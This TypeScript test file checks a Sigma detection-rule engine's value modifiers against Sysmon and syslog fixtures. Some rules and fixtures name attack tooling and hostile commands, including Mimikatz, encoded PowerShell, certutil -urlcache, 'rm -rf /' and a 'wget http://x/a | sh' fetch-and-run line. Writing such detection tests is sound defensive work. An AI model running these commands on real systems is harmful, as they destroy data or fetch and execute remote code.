import { describe, expect, it } from "vitest";
import { engineOf, matchedIds, processRule, syslogRecord, sysmonEvent } from "./sigma-fixtures.js";

/** Whether a process_creation rule with `detection` matches a Sysmon process creation with `data`. */
function hit(
  detection: string,
  data: Record<string, string | number | null | string[]>,
  placeholders?: Map<string, string[]>,
): boolean {
  const engine = engineOf(processRule("r", detection), placeholders ? { placeholders } : {});
  expect(engine.rules.refused).toEqual([]);
  return matchedIds(engine, sysmonEvent(1, data)).includes("r");
}

const sel = (entries: string) => `  sel:\n${entries}\n  condition: sel`;

describe("value modifiers", () => {
  it("contains, startswith, endswith; lists are or; maps are and", () => {
    expect(hit(sel("    CommandLine|contains: mimikatz"), { CommandLine: "run MimiKatz.exe" })).toBe(true);
    expect(hit(sel("    Image|startswith: 'C:\\Temp\\'"), { Image: "c:\\temp\\a.exe" })).toBe(true);
    expect(hit(sel("    Image|endswith:\n      - a.exe\n      - b.exe"), { Image: "x\\B.exe" })).toBe(true);
    expect(hit(sel("    Image|endswith: a.exe\n    User: bob"), { Image: "a.exe", User: "alice" })).toBe(
      false,
    );
  });

  it("all: every value", () => {
    const d = sel("    CommandLine|contains|all:\n      - ' -enc '\n      - ' -nop '");
    expect(hit(d, { CommandLine: "powershell -nop -enc AAA" })).toBe(true);
    expect(hit(d, { CommandLine: "powershell -enc AAA" })).toBe(false);
  });

  it("cased keeps case", () => {
    const d = sel("    CommandLine|contains|cased: EvIl");
    expect(hit(d, { CommandLine: "xx EvIl yy" })).toBe(true);
    expect(hit(d, { CommandLine: "xx evil yy" })).toBe(false);
  });

  it("re with its i, m and s flags; case-sensitive by default", () => {
    expect(hit(sel("    CommandLine|re: '^Get-[A-Z]+$'"), { CommandLine: "Get-ITEM" })).toBe(true);
    expect(hit(sel("    CommandLine|re: '^get-[a-z]+$'"), { CommandLine: "Get-ITEM" })).toBe(false);
    expect(hit(sel("    CommandLine|re|i: '^get-[a-z]+$'"), { CommandLine: "Get-ITEM" })).toBe(true);
    expect(hit(sel("    CommandLine|re: '^b$'"), { CommandLine: "a\nb" })).toBe(false);
    expect(hit(sel("    CommandLine|re|m: '^b$'"), { CommandLine: "a\nb" })).toBe(true);
    expect(hit(sel("    CommandLine|re: 'a.b'"), { CommandLine: "a\nb" })).toBe(false);
    expect(hit(sel("    CommandLine|re|s: 'a.b'"), { CommandLine: "a\nb" })).toBe(true);
    // PCRE's leading inline flag.
    expect(hit(sel("    CommandLine|re: '(?i)^get-item$'"), { CommandLine: "Get-Item" })).toBe(true);
  });

  it("cidr, IPv4 and IPv6", () => {
    const d = sel("    DestinationIp|cidr:\n      - 10.0.0.0/8\n      - 'fe80::/10'");
    expect(hit(d, { DestinationIp: "10.20.30.40" })).toBe(true);
    expect(hit(d, { DestinationIp: "11.0.0.1" })).toBe(false);
    expect(hit(d, { DestinationIp: "fe80::1" })).toBe(true);
    expect(hit(d, { DestinationIp: "2001:db8::1" })).toBe(false);
  });

  it("base64 and base64offset (pySigma's three shifts)", () => {
    const encoded = Buffer.from("http://evil.example").toString("base64");
    expect(hit(sel("    CommandLine|base64: 'http://evil.example'"), { CommandLine: encoded })).toBe(true);
    const d = sel("    CommandLine|base64offset|contains: 'http://'");
    for (const prefix of ["", "x", "xy", "xyz"]) {
      const cli = `powershell -e ${Buffer.from(`${prefix}http://evil`).toString("base64")}`;
      expect(hit(d, { CommandLine: cli })).toBe(true);
    }
    expect(hit(d, { CommandLine: Buffer.from("ftp://evil").toString("base64") })).toBe(false);
  });

  it("wide (utf16le), utf16be and utf16 before base64", () => {
    const le = Buffer.from("Invoke-Mimikatz", "utf16le").toString("base64");
    expect(
      hit(sel("    CommandLine|wide|base64offset|contains: 'Invoke-Mimikatz'"), {
        CommandLine: `-enc ${le}`,
      }),
    ).toBe(true);
    expect(
      hit(sel("    CommandLine|utf16le|base64: 'cmd'"), {
        CommandLine: Buffer.from("cmd", "utf16le").toString("base64"),
      }),
    ).toBe(true);
    const be = Buffer.from("cmd", "utf16le").swap16().toString("base64");
    expect(hit(sel("    CommandLine|utf16be|base64: 'cmd'"), { CommandLine: be })).toBe(true);
    const bom = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("cmd", "utf16le")]).toString("base64");
    expect(hit(sel("    CommandLine|utf16|base64: 'cmd'"), { CommandLine: bom })).toBe(true);
  });

  it("windash: a flag's dash may be -, /, en dash, em dash or horizontal bar", () => {
    const d = sel("    CommandLine|windash|contains: ' -urlcache '");
    for (const dash of ["-", "/", "\u2013", "\u2014", "\u2015"])
      expect(hit(d, { CommandLine: `certutil ${dash}urlcache -f x` })).toBe(true);
    expect(hit(d, { CommandLine: "certutil +urlcache -f x" })).toBe(false);
    // Not a flag (between word characters): stays a plain dash.
    const inner = sel("    CommandLine|windash|contains: 'a-b'");
    expect(hit(inner, { CommandLine: "a/b" })).toBe(false);
  });

  it("exists true and false", () => {
    expect(hit(sel("    ParentImage|exists: true"), { ParentImage: "" })).toBe(true);
    expect(hit(sel("    ParentImage|exists: true"), { Image: "x" })).toBe(false);
    expect(hit(sel("    ParentImage|exists: false"), { Image: "x" })).toBe(true);
  });

  it("null means absent or null; '' means empty", () => {
    expect(hit(sel("    ParentImage: null"), { Image: "x" })).toBe(true);
    expect(hit(sel("    ParentImage: null"), { ParentImage: null })).toBe(true);
    expect(hit(sel("    ParentImage: null"), { ParentImage: "" })).toBe(false);
    expect(hit(sel("    ParentImage: ''"), { ParentImage: "" })).toBe(true);
    expect(hit(sel("    ParentImage: ''"), { Image: "x" })).toBe(false);
  });

  it("numeric comparisons, and numbers compare as written", () => {
    expect(hit(sel("    Count|gt: 5"), { Count: 6 })).toBe(true);
    expect(hit(sel("    Count|gt: 5"), { Count: "5" })).toBe(false);
    expect(hit(sel("    Count|gte: 5"), { Count: "5" })).toBe(true);
    expect(hit(sel("    Count|lt: 5"), { Count: 4 })).toBe(true);
    expect(hit(sel("    Count|lte: 5"), { Count: "x" })).toBe(false);
    expect(hit(sel("    ProcessId: 4688"), { ProcessId: "4688" })).toBe(true);
  });

  it("neq, fieldref (with endswith), and time parts", () => {
    expect(hit(sel("    User|neq: bob"), { User: "alice" })).toBe(true);
    expect(hit(sel("    User|neq: bob"), { User: "BOB" })).toBe(false);
    expect(hit(sel("    User|fieldref: ParentUser"), { User: "Bob", ParentUser: "bob" })).toBe(true);
    expect(hit(sel("    User|fieldref: ParentUser"), { User: "Bob", ParentUser: "eve" })).toBe(false);
    expect(
      hit(sel("    TargetFilename|fieldref|endswith: Name"), {
        TargetFilename: "C:\\x\\a.dll",
        Name: "a.dll",
      }),
    ).toBe(true);
    expect(hit(sel("    UtcTime|hour|gte: 22"), { UtcTime: "2026-01-01T23:10:00Z" })).toBe(true);
    expect(hit(sel("    UtcTime|month: 1"), { UtcTime: "2026-02-01T23:10:00Z" })).toBe(false);
  });

  it("expand replaces placeholders with configured values; an unconfigured one refuses the rule", () => {
    const d = sel("    User|expand: '%Administrators%'");
    const placeholders = new Map([["Administrators", ["corp\\admin", "root"]]]);
    expect(hit(d, { User: "ROOT" }, placeholders)).toBe(true);
    expect(hit(d, { User: "bob" }, placeholders)).toBe(false);
    const refused = engineOf(processRule("r", d)).rules.refused;
    expect(refused).toMatchObject([{ id: "r", kind: "placeholder" }]);
    expect(refused[0]!.reason).toMatch(/%Administrators% has no values/);
  });

  it("list-valued fields match when any element does", () => {
    expect(hit(sel("    Hashes|contains: 'md5=abc'"), { Hashes: ["SHA1=1", "MD5=ABC"] })).toBe(true);
  });

  it("keywords search the text: list is or, |all is and", () => {
    const rule = (detection: string) => `title: kw
id: kw
logsource:
  product: linux
detection:
${detection}
`;
    const any = engineOf(rule("  keywords:\n    - 'rm -rf /'\n    - 'chmod 777'\n  condition: keywords"));
    expect(matchedIds(any, syslogRecord("bash", "user ran CHMOD 777 /etc"))).toEqual(["kw"]);
    expect(matchedIds(any, syslogRecord("bash", "ls"))).toEqual([]);
    const all = engineOf(
      rule("  keywords:\n    '|all':\n      - 'wget'\n      - '| sh'\n  condition: keywords"),
    );
    expect(matchedIds(all, syslogRecord("bash", "wget http://x/a | sh"))).toEqual(["kw"]);
    expect(matchedIds(all, syslogRecord("bash", "wget http://x/a"))).toEqual([]);
  });

  it("refuses unknown modifiers and impossible combinations with a reason", () => {
    const refusal = (d: string) => engineOf(processRule("r", sel(d))).rules.refused[0];
    expect(refusal("    Image|endswit: x")).toMatchObject({
      kind: "modifier",
      reason: expect.stringMatching(/unknown modifier 'endswit'/),
    });
    expect(refusal("    Image|base64: 'a*b'")).toMatchObject({ kind: "modifier" });
    expect(refusal("    Image|re: '(unclosed'")).toMatchObject({ kind: "regex" });
    expect(refusal("    Image|cidr: 'not-a-net'")).toMatchObject({ kind: "value" });
    expect(refusal("    Image|gt: abc")).toMatchObject({ kind: "value" });
  });
});
